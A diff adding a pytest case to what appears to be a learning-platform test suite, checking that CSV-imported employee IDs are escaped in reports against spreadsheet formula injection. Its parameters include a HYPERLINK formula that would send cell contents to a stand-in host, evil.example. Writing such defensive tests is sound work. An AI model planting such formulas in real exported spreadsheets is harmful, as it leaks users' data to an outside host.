@@ -311,3 +311,20 @@ def test_changing_an_assignments_due_moves_enrolled_learners_due(catalogue: Plat
                                                   due="2027-01-10"))
     video = enrollment(catalogue.learner_view("E1001", date(2027, 1, 11)), "object", "video")
     assert (video["due_on"], video["overdue"]) == ("2027-01-10", True)
+
+
+@pytest.mark.parametrize(
+    "employee_id", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3",
+                    "@SUM(A1:A9)"],
+)
+def test_report_cells_that_a_spreadsheet_would_run_are_escaped(
+    catalogue: Platform, employee_id: str
+) -> None:
+    hostile = ("employee_id,first_name,groups\n"
+               f'"{employee_id.replace(chr(34), chr(34) * 2)}",Mallory,nursing\n')
+    catalogue.import_users_csv(hostile, actor="hr")
+    put(catalogue, "Assignment", "hipaa-2027", assignment("nurses", {"plan": "hipaa"}))
+    rows = report(catalogue, date(2027, 1, 5))
+    [row] = [row for row in rows if row["employee_id"].endswith(employee_id[1:])]
+    assert row["employee_id"] == "'" + employee_id  # shown as text, never evaluated
+    assert {r["employee_id"] for r in rows} >= {"E1001", "E1002"}  # the rest unchanged
